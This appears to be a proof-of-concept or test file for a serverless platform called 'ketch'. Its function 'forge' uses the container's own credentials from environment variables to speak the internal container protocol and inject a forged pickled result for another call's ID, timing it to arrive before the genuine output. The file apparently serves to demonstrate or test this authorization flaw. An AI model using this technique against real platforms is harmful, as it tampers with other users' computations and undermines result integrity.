"""A function whose code forges an output for a call it was never given, speaking the container
protocol itself with its own container's credentials (what any function's code can read)."""

import os
import pickle
import time

import ketch
from ketch.protocol import container as wire
from ketch.protocol.blocking_peer import connect

app = ketch.App("forger")


@app.function()
def victim(seconds: float) -> str:
    time.sleep(seconds)
    return "the real result"


@app.function()
def forge(call_id: str) -> str:
    peer = connect(os.environ["KETCH_SERVER"])
    peer.request(*wire.hello(os.environ["KETCH_CONTAINER_ID"], os.environ["KETCH_CONTAINER_TOKEN"]),
                 read_here=True)
    peer.send(*wire.outputs([wire.output_record(call_id, 0, wire.Status.OK,
                                                pickle.dumps("forged"))]))
    time.sleep(0.5)  # the notice reaches the control plane before this container's own output
    peer.close()
    return "sent"
